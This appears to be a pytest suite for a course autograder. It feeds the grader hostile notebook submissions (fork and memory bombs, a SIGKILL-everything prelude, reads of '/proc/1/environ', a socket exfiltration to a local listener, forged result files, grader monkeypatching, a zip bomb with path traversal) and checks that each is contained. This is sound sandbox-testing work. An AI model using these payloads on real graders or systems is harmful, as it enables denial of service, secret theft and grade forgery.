"""Hostile and broken submissions: each ends with a clear message, earns no credit it did not
earn, and the batch goes on.

All of them are graded in ONE batch (two jobs, short time limits), next to a correct control
submission. In most, ``rnn_cell`` (2 points) carries the attack and ``lstm_cell`` (3 points) is
correct, so a score of exactly 3 shows both that the attack earned nothing and that the rest of
the submission was still graded.
"""

from __future__ import annotations

import csv
import io
import json
import os
import socket
import zipfile
from pathlib import Path

import nbformat
import pytest
import torch
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

import coursekit.rnn
from coursekit.grading.batch import Limits, grade
from coursekit.grading.registry import all_suites

ROOT = Path(__file__).resolve().parents[1]
FORGED = "forged.json"  # where no file may appear: in the results, next to the submissions
LIMITS = Limits(timeout=30, case_timeout=2, memory_mib=1024, output_kib=256)

RNN = '''def rnn_cell(x, h, W_ih, W_hh, b_ih, b_hh):
    return torch.tanh(x @ W_ih.T + b_ih + h @ W_hh.T + b_hh)
'''
LSTM = '''def lstm_cell(x, state, W_ih, W_hh, b_ih, b_hh):
    h, c = state
    i, f, g, o = (x @ W_ih.T + b_ih + h @ W_hh.T + b_hh).chunk(4, dim=-1)
    c_next = torch.sigmoid(f) * c + torch.sigmoid(i) * torch.tanh(g)
    return torch.sigmoid(o) * torch.tanh(c_next), c_next
'''
SIGNATURE = "def rnn_cell(x, h, W_ih, W_hh, b_ih, b_hh):\n"
META = {"01.1": ("rnn_cell", 2), "01.2": ("lstm_cell", 3)}


def cell(source: str, exercise: str | None = None, points: float | None = None):
    c = new_code_cell(source)
    if exercise:
        name, default = META[exercise]
        c.metadata = {"tags": ["exercise"], "coursekit": {
            "exercise": exercise, "name": name, "points": default if points is None else points}}
    return c


def notebook(*cells) -> str:
    return nbformat.writes(new_notebook(cells=[new_markdown_cell("# Chapter 1"), *cells]))


def attack(body: str, prelude: str = "") -> str:
    """rnn_cell carries the attack; lstm_cell is right."""
    return notebook(cell(prelude + SIGNATURE + body, "01.1"), cell(LSTM, "01.2"))


def corpus(out: Path, subs: Path, port: int) -> dict[str, tuple[str | bytes, float, list[str]]]:
    """name -> (file content, expected score, words expected in its rnn_cell verdicts)."""
    coursekit_source = Path(coursekit.rnn.__file__).resolve()
    solutions = ROOT / "solutions" / "01_rnn_recap.ipynb"
    return {
        # --- files that are not a gradable notebook
        "malformed_json.ipynb": ('{"cells": [{"cell_type": "code", "source": "x"', 0,
                                 ["invalid JSON at line 1"]),
        "not_a_notebook.ipynb": ('{"hello": "world"}', 0, ["not a Jupyter notebook"]),
        "empty.ipynb": ("", 0, ["empty"]),
        "binary.ipynb": (bytes(range(256)) * 8, 0, ["not UTF-8"]),
        # --- cells missing, renamed, duplicated, forged metadata, syntax errors
        "missing_cells.ipynb": (notebook(cell("x = 1")), 0, ["no exercise cell for 01.1"]),
        "renamed.ipynb": (notebook(cell(RNN.replace("def rnn_cell", "def my_rnn_cell"), "01.1"),
                                   cell(LSTM, "01.2")), 3,
                          ["NameError", "rnn_cell"]),
        "untagged.ipynb": (notebook(cell("import torch\n" + RNN + "print(rnn_cell)"),
                                    cell(LSTM, "01.2")), 5, []),
        "duplicated.ipynb": (notebook(cell(RNN.replace("tanh", "relu"), "01.1"),
                                      cell(RNN, "01.1"), cell(LSTM, "01.2")), 5, []),
        "forged_points.ipynb": (notebook(cell(RNN, "01.1", points=100),
                                         cell(LSTM, "01.2", points=100)), 5, []),
        "syntax_error.ipynb": (attack("    return torch.tanh(x @ W_ih.T +\n"), 3,
                               ["SyntaxError", "line 2"]),
        "parse_bomb.ipynb": (attack("    return x\n", prelude="y = " + "(" * 100_000 + "0"
                                    + ")" * 100_000 + "\n"), 3, ["the cell did not run"]),
        # --- wrong results
        "wrong_shape_dtype.ipynb": (notebook(
            cell(RNN.replace("b_hh)\n", "b_hh).unsqueeze(0)\n"), "01.1"),
            cell(LSTM.replace("c_next), c_next", "c_next).half(), c_next"), "01.2")), 0,
            ["shape"]),
        "nan.ipynb": (attack("    return torch.full_like(h, float('nan'))\n"), 3,
                      ["non-finite value nan"]),
        # --- runaway code
        "infinite_loop.ipynb": (attack("    while True:\n        pass\n"), 3, ["timed out"]),
        "memory_bomb.ipynb": (attack("    hog = [0] * (1 << 36)\n    return hog\n"), 3,
                              ["MemoryError", "the grader allows 1024 MiB of memory"]),
        "torch_memory_bomb.ipynb": (attack("    return torch.empty(1 << 38)\n"), 3,
                                    ["RuntimeError"]),
        "fork_bomb.ipynb": (attack("    while True:\n        os.fork()\n", "import os\n"), 3,
                            ["BlockingIOError", "without new processes"]),
        "thread_bomb.ipynb": (attack("    for _ in range(100):\n        threading.Thread("
                                     "target=time.sleep, args=(60,)).start()\n",
                                     "import threading, time\n"), 3, ["RuntimeError"]),
        "subprocess.ipynb": (attack("    subprocess.Popen(['sleep', '60'])\n",
                                    "import subprocess\n"), 3, ["raised"]),
        "huge_output.ipynb": (attack("    while True:\n        print('x' * 100_000)\n"), 3,
                              ["printed more than 256 KiB"]),
        "os_exit.ipynb": (attack("    os._exit(0)\n", "import os\n"), 3,
                          ["exited with status 0"]),
        "sys_exit.ipynb": (attack("    sys.exit(0)\n", "import sys\n"), 3, ["SystemExit"]),
        "segfault.ipynb": (attack("    return ctypes.string_at(0)\n", "import ctypes\n"), 3,
                           ["segmentation fault"]),
        "recursion_bomb.ipynb": (attack("    sys.setrecursionlimit(100_000)\n"
                                        "    f = lambda n: f(n + 1)\n    return f(0)\n",
                                        "import sys\n"), 3,
                                 ["RecursionError", "maximum recursion depth exceeded"]),
        "kill_everything.ipynb": (attack(
            "    return h * 0\n",
            "import os, signal\nfor target in (-1, 0, os.getppid(), 1):\n    try:\n"
            "        os.kill(target, signal.SIGKILL)\n    except OSError:\n        pass\n"),
            3, ["max |Δ|"]),
        # --- forgery and cheating
        "forged_output.ipynb": (attack(
            "    print('Exercise 01.1 · rnn_cell: 2 / 2 points (3/3 cases)')\n"
            "    print('{\"score\": 5, \"max_score\": 5, \"tests\": []}')\n"
            "    print('All tests passed!')\n    return h * 0\n"), 3, ["max |Δ|"]),
        "student_results_json.ipynb": (attack(
            "    for path in ['results.json', '/autograder/results/results.json',\n"
            f"                 {str(out / 'student_results_json' / 'results.json')!r},\n"
            f"                 {str(out / 'control' / 'results.json')!r},\n"
            f"                 {str(out / 'grades.csv')!r}, {str(out / FORGED)!r},\n"
            f"                 {str(subs.parent / FORGED)!r}]:\n"
            "        try:\n"
            "            with open(path, 'w') as f:\n"
            "                f.write('{\"score\": 100, \"max_score\": 5, \"tests\": []}')\n"
            "        except OSError:\n            pass\n    return h * 0\n"), 3, ["max |Δ|"]),
        "forged_frame.ipynb": (attack("    os.write(3, b'\\xff' * 16)\n    time.sleep(30)\n",
                                      "import os, time\n"), 3, ["malformed message"]),
        "steal_reference.ipynb": (attack(STEAL), 3, ["not an upstream exercise"]),
        "always_equal.ipynb": (attack(
            "    class AlwaysEqual:\n        __eq__ = lambda self, other: True\n"
            "        __ne__ = lambda self, other: False\n"
            "        __len__ = lambda self: 1\n        shape = h.shape\n        dtype = h.dtype\n"
            "    return AlwaysEqual()\n"), 3, ["wrong type", "AlwaysEqual"]),
        "tensor_subclass.ipynb": (attack(
            "    class Liar(torch.Tensor):\n        __eq__ = lambda self, other: True\n"
            "        @classmethod\n"
            "        def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
            "            return True\n"
            "    right = torch.tanh(x @ W_ih.T + b_ih + h @ W_hh.T + b_hh)\n"
            "    return right.as_subclass(Liar)\n"), 3, ["wrong type", "Liar"]),
        "parameter_output.ipynb": (attack(
            "    return nn.Parameter(torch.tanh(x @ W_ih.T + b_ih + h @ W_hh.T + b_hh))\n"), 3,
            ["wrong type", "Parameter"]),
        "monkeypatch.ipynb": (attack("    return h * 0\n", MONKEYPATCH), 3, ["max |Δ|"]),
        "import_reference.ipynb": (attack("    return _r(x, h, W_ih, W_hh, b_ih, b_hh)\n",
                                          "from coursekit.rnn import rnn_cell as _r\n"), 3,
                                   ["ModuleNotFoundError", "without coursekit"]),
        "import_by_path.ipynb": (attack(
            f"    sys.path.insert(0, {str(coursekit_source.parents[1])!r})\n"
            "    sys.meta_path[:] = [f for f in sys.meta_path if 'Blocker' not in repr(f)]\n"
            "    importlib.invalidate_caches()\n"
            "    from coursekit.rnn import rnn_cell as ref\n"
            "    return ref(x, h, W_ih, W_hh, b_ih, b_hh)\n", "import importlib, sys\n"), 3,
            ["ModuleNotFoundError"]),
        "read_files.ipynb": (attack(
            "    found = {}\n"
            f"    for path in [{str(solutions)!r}, {str(subs / 'control.ipynb')!r},\n"
            f"                 {str(out)!r}, '/proc/1/environ']:\n"
            "        try:\n            found[path] = open(path).read()\n"
            "        except OSError:\n            pass\n"
            f"    source = open({str(coursekit_source)!r}).read()\n"
            "    space = {}\n    exec(source, space)\n"
            "    return space['rnn_cell'](x, h, W_ih, W_hh, b_ih, b_hh)\n"), 3,
            ["FileNotFoundError"]),
        "network.ipynb": (attack(
            f"    with socket.create_connection(('127.0.0.1', {port}), timeout=1) as s:\n"
            "        s.sendall(b'stolen')\n    return h * 0\n", "import socket\n"), 3,
            ["without network access"]),
        "output_too_large.ipynb": (attack("    return torch.zeros(100_000_000)\n"), 3,
                                   ["too large"]),
        "markdown_injection.ipynb": (attack(
            "    print('\\x1b[2J\\x1b[31mcleared your terminal```')\n"
            "    raise ValueError('``` ![pixel](http://example.invalid/t.png) ```')\n"), 3,
            ["ValueError"]),
        "grades.csv.ipynb": (notebook(cell(RNN, "01.1"), cell(LSTM, "01.2")), 5, []),
        # --- not hostile: legitimate variety that must still earn full marks
        "legit_variants.ipynb": (notebook(
            cell(RNN.replace("return torch.tanh(x @ W_ih.T + b_ih + h @ W_hh.T + b_hh)",
                             "return torch.tanh(x @ W_ih.T + b_ih + h @ W_hh.T + b_hh).T"
                             ".contiguous().T  # not contiguous"), "01.1"),
            cell(LSTM.replace("return torch.sigmoid(o) * torch.tanh(c_next), c_next",
                              "return [torch.sigmoid(o) * torch.tanh(c_next), c_next]"),
                 "01.2")), 5, []),
        "control.ipynb": (notebook(cell(RNN, "01.1"), cell(LSTM, "01.2")), 5, []),
    }


STEAL = '''    # Ask the grader, over the worker's socket (fd 3), for the reference's answer.
    tensors = [x, h, W_ih, W_hh, b_ih, b_hh]
    blobs = [t.detach().contiguous().numpy().tobytes() for t in tensors]
    args = {"u": [{"t": ["float32", list(t.shape), i]} for i, t in enumerate(tensors)]}
    message = {"op": "upstream", "kind": "call", "name": "rnn_cell", "args": args,
               "kwargs": {"d": []}, "state": {"d": []}, "grad": False}
    header = json.dumps({"m": message, "b": [len(b) for b in blobs]}).encode()
    payload = struct.pack(">I", len(header)) + header + b"".join(blobs)
    os.write(3, struct.pack(">I", len(payload)) + payload)
    size = struct.unpack(">I", os.read(3, 4))[0]
    reply = os.read(3, size)
    head = struct.unpack(">I", reply[:4])[0]
    answer = json.loads(reply[4:4 + head])["m"]
    if answer["op"] == "upstream_ok":
        return torch.frombuffer(bytearray(reply[4 + head:]), dtype=torch.float32).reshape(h.shape)
    raise PermissionError(answer["message"])
'''.replace("    # Ask", "    import json, os, struct\n    # Ask", 1)

MONKEYPATCH = '''import builtins
torch.testing.assert_close = lambda *args, **kwargs: None
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.Tensor.__eq__ = lambda self, other: torch.ones((), dtype=torch.bool)
torch.isfinite = lambda t: torch.ones_like(t, dtype=torch.bool)
try:
    import coursekit.grading.suite as suite
    suite.compare = lambda *args, **kwargs: None
except ImportError:
    pass
builtins.print = lambda *args, **kwargs: None
'''


def bundle(path: Path) -> None:
    """A zip of submissions with a zip bomb, a path-traversal name and a nested zip inside."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        with zf.open("bomb.ipynb", "w", force_zip64=True) as member:
            for _ in range(64):
                member.write(b"\0" * (1 << 20))
        zf.writestr("../../escaped.ipynb", notebook(cell(RNN, "01.1"), cell(LSTM, "01.2")))
        zf.writestr("nested.zip", b"PK\x05\x06" + b"\0" * 18)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile")
    subs, out = base / "subs", base / "out"
    subs.mkdir()
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    files = corpus(out, subs, listener.getsockname()[1])
    for name, (content, _, _) in files.items():
        path = subs / name
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
    bundle(subs / "bundle.zip")
    before = {p.name: p.read_bytes() for p in subs.iterdir()}
    batch = grade([subs], out, jobs=2, limits=LIMITS, stream=None)
    listener.settimeout(0.5)
    try:
        connection, _ = listener.accept()
        stolen = connection.recv(100)
    except TimeoutError:
        stolen = None
    listener.close()
    records = {r["extra_data"]["coursekit"]["submission"]: r for r in batch.records}
    return {"batch": batch, "records": records, "files": files, "out": out, "subs": subs,
            "before": before, "stolen": stolen}


def _outputs(record: dict, exercise: str = "01.1") -> str:
    return "\n".join(t["output"] for t in record["tests"] if t["name"].startswith(exercise))


# Attacks that only a private file system or an empty network namespace / seccomp can stop.
NEEDS = {"read_files": "filesystem", "import_by_path": "filesystem", "network": "network"}

REQUIRED = os.environ.get("COURSEKIT_REQUIRE_ISOLATION") == "1"


def _not_isolated(reason: str) -> None:
    """Skip an attack this machine cannot confine, or fail where isolation is required (CI)."""
    if REQUIRED:
        pytest.fail(f"{reason}; COURSEKIT_REQUIRE_ISOLATION=1 makes every attack mandatory",
                    pytrace=False)
    pytest.skip(reason)


NAMES = [name.rsplit(".", 1)[0] for name in corpus(Path("/out"), Path("/subs"), 1)]
IDS = {name: "grades.csv.ipynb" if name == "grades.csv" else name for name in NAMES}


@pytest.mark.parametrize("name", NAMES)
def test_hostile_submission(hostile, name):
    record = hostile["records"][IDS[name]]
    _, score, words = hostile["files"][name + ".ipynb"]
    isolation = hostile["batch"].isolation["checks"]
    if NEEDS.get(name) == "filesystem" and isolation["read coursekit, submissions, results"] \
            != "blocked":
        _not_isolated("no private file system here; the isolation report says so")
    if NEEDS.get(name) == "network" and not isolation["connect to 127.0.0.1"].startswith(
            "blocked"):
        _not_isolated("no network isolation here; the isolation report says so")
    meta = record["extra_data"]["coursekit"]
    assert record["max_score"] == 5, "the exercises keep their points whatever the metadata says"
    assert record["score"] == pytest.approx(score), (_outputs(record), meta["problems"])
    assert not meta["harness_errors"]
    text = _outputs(record) + " ".join(meta["problems"]) + " ".join(meta["notes"])
    for word in words:
        assert word in text, text
    if score < 5:
        assert record["output"] and any(t["status"] == "failed" for t in record["tests"])


def test_the_whole_corpus_was_graded(hostile):
    expected = {*IDS.values(), "bundle/bomb", "bundle/escaped"}
    assert set(hostile["records"]) == expected
    assert len(expected) >= 44


def test_a_zip_bomb_is_refused_and_the_rest_of_the_zip_graded(hostile):
    bomb = hostile["records"]["bundle/bomb"]
    assert bomb["score"] == 0 and "refused as a possible zip bomb" in " ".join(
        bomb["extra_data"]["coursekit"]["problems"])
    escaped = hostile["records"]["bundle/escaped"]
    assert escaped["score"] == 5  # '../../' stripped: it is named, and kept, inside the zip
    assert not (hostile["subs"].parent / "escaped").exists()


def test_student_text_cannot_escape_the_reports(hostile):
    """Terminal escapes are dropped, code fences cannot be closed from inside, a file named
    like a class report does not replace it, CSV cells never start a formula."""
    feedback = (hostile["out"] / "markdown_injection" / "feedback.md").read_text()
    assert "\x1b" not in feedback and "cleared your terminal```" in feedback
    pixel = feedback.index("![pixel]")
    fence = feedback.rfind("\n`", 0, pixel) + 1
    opening = feedback[fence:feedback.index("text", fence)]
    assert len(opening) >= 4 and set(opening) == {"`"}
    assert feedback.index(opening, pixel) > pixel  # only a fence as long closes it
    assert (hostile["out"] / "grades.csv").is_file()
    rows = (hostile["out"] / "grades.csv").read_text().splitlines()
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows
               for cell in row.split(","))


def test_nothing_reached_the_network(hostile):
    if not hostile["batch"].isolation["checks"]["connect to 127.0.0.1"].startswith("blocked"):
        _not_isolated("no network isolation here; the isolation report says so")
    assert hostile["stolen"] is None


def test_submissions_are_untouched_and_student_files_do_not_replace_results(hostile):
    """student_results_json writes a forged score (100) into its own results, another
    submission's, grades.csv and two new files; none of it lands."""
    out = hostile["out"]
    assert {p.name: p.read_bytes() for p in hostile["subs"].iterdir()} == hostile["before"]
    assert not (hostile["subs"] / "results.json").exists()
    assert not (out / FORGED).exists() and not (hostile["subs"].parent / FORGED).exists()
    assert hostile["records"]["student_results_json"]["score"] == 3
    control = json.loads((out / "control" / "results.json").read_text())
    assert control == hostile["records"]["control"] and control["score"] == 5
    cases = sum(len(all_suites()[n].cases) for n in ("rnn_cell", "lstm_cell"))
    assert len(control["tests"]) == cases
    assert {t["status"] for t in control["tests"]} == {"passed"}
    rows = list(csv.DictReader(io.StringIO((out / "grades.csv").read_text())))
    assert {"student_results_json", "control"} <= {row["submission"] for row in rows}
    assert all(float(row["score"]) <= float(row["max_score"]) == 5 for row in rows)


def batch_leftovers(workers) -> list[str]:
    """Processes of this batch still alive: a worker it started (the same pid *and* start time:
    pids are reused), or a process in the workers' uid range in the session of one (what a
    worker forked). Other batches on the machine use the same uids: they are not looked at."""
    started = set(map(tuple, workers))
    sessions = {pid for pid, _ in started}
    found = []
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
            uid = next(int(line.split()[1]) for line in
                       (stat.parent / "status").read_text().splitlines()
                       if line.startswith("Uid:"))
        except (OSError, StopIteration, ValueError, IndexError):
            continue
        pid, session, start = int(stat.parent.name), int(fields[3]), int(fields[19])
        if (pid, start) in started or (64000 <= uid < 65000 and session in sessions):
            found.append(stat.parent.name)
    return found


def test_no_worker_process_outlives_the_batch(hostile):
    assert hostile["batch"].workers, "the batch records the workers it started"
    assert not batch_leftovers(hostile["batch"].workers)


def test_the_grader_itself_was_not_patched(hostile):
    assert not torch.allclose(torch.zeros(1), torch.ones(1))
    assert hostile["records"]["monkeypatch"]["score"] == 3


def test_crashes_and_timeouts_are_flagged_for_the_instructor(hostile):
    problems = {name: r["extra_data"]["coursekit"]["problems"]
                for name, r in hostile["records"].items()}
    assert "timed out" in problems["infinite_loop"]
    assert "crashed the worker" in problems["segfault"]
    assert "sent malformed messages" in problems["forged_frame"]
    assert "printed too much" in problems["huge_output"]
    summary = (hostile["out"] / "summary.md").read_text()
    assert "## Submissions to look at" in summary and "infinite_loop" in summary
